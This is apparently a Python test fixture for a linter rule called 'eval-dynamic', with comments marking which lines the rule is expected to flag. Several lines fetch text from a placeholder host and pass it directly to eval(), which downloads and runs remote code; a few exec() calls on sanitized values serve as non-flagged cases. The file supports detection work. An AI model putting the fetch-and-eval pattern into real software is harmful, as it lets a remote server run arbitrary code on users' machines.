import urllib.request

import aiohttp
import httpx
import requests


def answers(url):
    eval(requests.get("https://example.org").text)  # want: eval-dynamic medium
    with requests.Session() as session:
        eval(session.get("https://example.org").text.strip())  # want: eval-dynamic medium
    eval(httpx.Client().post("https://example.org").text)  # want: eval-dynamic medium
    eval(urllib.request.urlopen("https://example.org").read())  # want: eval-dynamic medium


async def later():
    async with aiohttp.ClientSession() as session, session.get("https://example.org") as response:
        eval(await response.text())  # want: eval-dynamic medium


def harmless():
    exec(str(int(requests.get("https://example.org").text)))
    exec(str(len(requests.get("https://example.org").text)))
